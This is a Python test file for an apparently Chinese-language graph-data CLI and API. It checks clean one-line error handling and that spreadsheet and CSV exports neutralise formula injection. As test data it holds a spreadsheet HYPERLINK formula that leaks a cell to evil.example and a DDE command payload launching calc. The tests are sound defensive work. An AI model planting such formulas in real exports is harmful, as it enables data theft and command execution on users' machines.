"""Every failure is one clear line (issue 12, point 5): a full disk, a corrupted snapshot, a bad
period, an error nobody foresaw — exit 1 or 3 with one Chinese line on the CLI, a JSON problem
from the API, never a traceback or a bare 500. Exports for people are inert (point 3)."""

from __future__ import annotations

import errno
import io
import os
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.minicity import write_city
from tupu.api.app import create_app
from tupu.api.cli import main
from tupu.api.deps import get_store
from tupu.api.downloads import xlsx_table
from tupu.api.output import to_csv
from tupu.errors import Problem, StoreError
from tupu.graph.stores.memory_store import MemoryStore
from tupu.loaders.notes import Note
from tupu.loaders.report_xlsx import write_report
from tupu.settings import load_settings

TOKENS = {"analyst-token-0123456789": "analyst"}
EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    return code, capsys.readouterr().err


def one_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "data"
    monkeypatch.setenv("TUPU_DATA_DIR", str(folder))
    monkeypatch.setenv("TUPU_STORE", "memory")
    return folder


@pytest.fixture
def city(tmp_path: Path) -> Path:
    return write_city(tmp_path / "city")


def test_disk_full_while_writing_the_snapshot(
    data_dir: Path, city: Path, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    code, err = run(capsys, "load", str(city))
    assert code == 3
    assert "磁盘空间不足" in one_line(err)


def test_disk_full_while_writing_an_export(
    data_dir: Path, city: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    assert run(capsys, "load", str(city))[0] == 0
    target = tmp_path / "map.ttl"
    target.symlink_to("/dev/full")  # every write to it fails with ENOSPC
    code, err = run(capsys, "export", "ttl", str(target))
    assert code == 3
    assert "磁盘空间不足" in one_line(err)


def test_a_corrupted_snapshot_is_one_line_and_exit_3(
    data_dir: Path, city: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(capsys, "load", str(city))[0] == 0
    snapshots = [p for p in data_dir.rglob("*") if p.is_file() and "snapshot" in p.name]
    assert snapshots
    for path in snapshots:
        raw = bytearray(path.read_bytes())
        raw[len(raw) // 2: len(raw) // 2 + 64] = b"\xff" * 64
        path.write_bytes(bytes(raw))
    code, err = run(capsys, "stats")
    assert (code, err[:200]) == (3, err[:200])
    assert one_line(err).startswith("tupu: 数据存储不可用：")


def test_a_bad_period_is_exit_1(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for argv in (("targets", "--period", "abc"), ("projects", "--period", "2025Q9")):
        code, err = run(capsys, *argv)
        assert code == 1
        assert "写法不对" in one_line(err)


def test_an_unforeseen_error_is_one_line(
    data_dir: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from tupu.api.commands import stats

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(stats, "format_stats", boom, raising=False)
    monkeypatch.setattr(MemoryStore, "count_nodes", boom)
    code, err = run(capsys, "stats")
    assert code == 1
    assert "内部错误（RuntimeError）" in one_line(err)


# -- the API ------------------------------------------------------------------------------------
@pytest.fixture
def client(tmp_path: Path, city: Path) -> tuple[TestClient, MemoryStore]:
    from tupu.loaders.pipeline import load

    store = MemoryStore(None)
    load([city], store)
    web = create_app(load_settings(data_dir=tmp_path / "api", store="memory",
                                   api_tokens=TOKENS, env="development"))
    web.dependency_overrides[get_store] = lambda: store
    return TestClient(web, headers={"Authorization": "Bearer analyst-token-0123456789"}), store


def test_api_bad_period_is_a_400_problem(client: tuple[TestClient, MemoryStore]) -> None:
    c, _ = client
    for url in ("/api/v1/targets?period=abc", "/api/v1/projects?period=2025Q9"):
        r = c.get(url)
        assert r.status_code == 400, url
        assert r.json()["error"] == "BadValue" and "写法不对" in r.json()["detail"]


def test_api_store_error_is_503_without_details(
    client: tuple[TestClient, MemoryStore], monkeypatch: pytest.MonkeyPatch
) -> None:
    c, _ = client

    def broken(*args: object, **kwargs: object) -> None:
        raise StoreError("cannot read the snapshot /secret/path/map.snapshot: bad pickle")

    monkeypatch.setattr(MemoryStore, "count_nodes", broken)
    r = c.get("/api/v1/stats")
    assert r.status_code == 503
    assert r.json()["detail"] == "数据存储暂不可用，请稍后重试或联系系统管理员"
    assert "/secret" not in r.text


def test_api_unforeseen_error_is_a_json_500_and_logged(
    client: tuple[TestClient, MemoryStore], monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    c, _ = client

    def boom(*args: object, **kwargs: object) -> None:
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(MemoryStore, "count_nodes", boom)
    r = c.get("/api/v1/stats")
    assert r.status_code == 500
    assert r.json() == {"error": "InternalError",
                        "detail": "服务器内部错误，操作未完成；详细信息已记入服务器日志，请联系系统管理员"}
    assert any("ZeroDivisionError" in (rec.exc_text or "") or rec.exc_info
               for rec in caplog.records)
    page = c.get("/api/v1/stats".replace("/api/v1", ""))  # pages use the same edge
    assert page.status_code in (200, 404, 500)


def test_api_disk_full_is_503(client: tuple[TestClient, MemoryStore],
                              monkeypatch: pytest.MonkeyPatch) -> None:
    c, _ = client

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(MemoryStore, "count_nodes", full)
    r = c.get("/api/v1/stats")
    assert r.status_code == 503 and "磁盘空间不足" in r.json()["detail"]


# -- exports for people are inert -------------------------------------------------------------
def test_the_report_workbook_is_inert(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    write_report(path, [Problem("=cmd|' /C calc'!A0", 2, "@SUM(A1)", EVIL, "-1+1")],
                 [Note("note", "+86.xlsx", 3, None, "=1+1", "说明")])
    wb = load_workbook(path)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row]
    assert "'" + EVIL in values and "'=cmd|' /C calc'!A0" in values and "'-1+1" in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_download_workbooks_and_csv_output_are_inert() -> None:
    rows = [{"name": EVIL, "score": -2.5, "tags": ["=1+1", "x"]}]
    wb = load_workbook(io.BytesIO(xlsx_table(rows, "=标题", "@说明")))
    values = [c.value for row in wb.active.iter_rows() for c in row if c.value is not None]
    assert "'" + EVIL in values and -2.5 in values and "'=标题" in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)
    out = to_csv(rows)
    assert "'=HYPERLINK" in out and ",-2.5," in out


def test_the_bulletin_workbook_is_inert(tmp_path: Path) -> None:
    import pandas as pd

    from tupu.graph.analyses.bulletin import Bulletin, Section
    from tupu.graph.exports.bulletin import to_xlsx

    frame = pd.DataFrame([{"name": EVIL, "town": "@镇", "revenue": -12.5}])
    section = Section("anchors", "=重点企业", frame,
                      (("name", "企业"), ("town", "区镇"), ("revenue", "营收")), "-注")
    b = Bulletin("2025Q2", "=通报", "迷你市", "+规划", "@说明", True, None,  # type: ignore[arg-type]
                 ("=概况",), (section,))
    wb = load_workbook(to_xlsx(b, tmp_path / "bulletin.xlsx"))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + EVIL in values and -12.5 in values and "'=通报" in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)


def test_the_canonical_export_round_trips_formula_like_names_exactly(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = {"t1": "=1+1", "t2": "@视界"}
    evil = write_city(tmp_path / "evil", {
        "nodes/Town.csv": "id,name,kind,city\nt1,=1+1,town,迷你市\nt2,@视界,street,迷你市\n"})
    assert run(capsys, "load", str(evil))[0] == 0
    out = tmp_path / "export"
    assert run(capsys, "export", "csv", str(out))[0] == 0
    text = (out / "nodes" / "Town.csv").read_text(encoding="utf-8")
    assert "t1,=1+1," in text and "t2,@视界," in text  # exact: a machine format
    store = MemoryStore(None)
    from tupu.loaders.pipeline import load

    load([out], store)
    assert {n.props["id"]: n.props["name"] for n in store.find_nodes("Town")} == names


def test_bad_settings_never_print_the_token(
    data_dir: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TUPU_API_TOKENS", '{"supersecret-token-0123456789": "root"}')
    code, err = run(capsys, "stats")
    assert code == 2
    assert "TUPU_API_TOKENS" in one_line(err) and "supersecret" not in err
